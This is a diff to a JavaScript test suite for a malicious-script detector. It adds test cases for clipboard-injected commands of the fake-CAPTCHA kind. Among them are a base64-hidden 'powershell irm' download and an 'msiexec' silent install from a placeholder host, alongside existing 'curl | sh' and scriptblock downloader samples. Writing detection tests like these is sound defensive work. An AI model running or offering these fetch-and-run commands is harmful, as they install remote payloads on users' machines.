@@ -78,6 +78,11 @@ describe('§2.5.13 the signatures of malicious scripts', () => {
       `navigator.clipboard.writeText('powershell -c "irm bun.sh/install.ps1 | iex"')`,
     ],
     [
+      'a concealed command that is put into the clipboard',
+      `navigator.clipboard.writeText(atob('${btoa('powershell -c "irm https://x.example/a"')}'))`,
+      `navigator.clipboard.writeText(atob('${btoa('https://x.example/invite')}'))`,
+    ],
+    [
       'an address that is spelt by character codes',
       `var e = document.createElement(String.fromCharCode(${SCRIPT})); e.src = String.fromCharCode(${ADDRESS})`,
       `const API = String.fromCharCode(${ADDRESS}); const e = document.createElement('script'); e.src = API`,
@@ -101,6 +106,7 @@ describe('§2.5.13 the signatures of malicious scripts', () => {
       'powershell -nop -enc SQBFAFgA',
       `cmd /c "curl https://x.example/a | sh # verification ID: 123"`,
       '& ([scriptblock]::Create((irm https://x.example/a))) # powershell, captcha verification',
+      'msiexec /i https://x.example/a.msi /qn # I am not a robot',
     ])
       assert.ok(copied(concealed), concealed);
     for (const installer of [
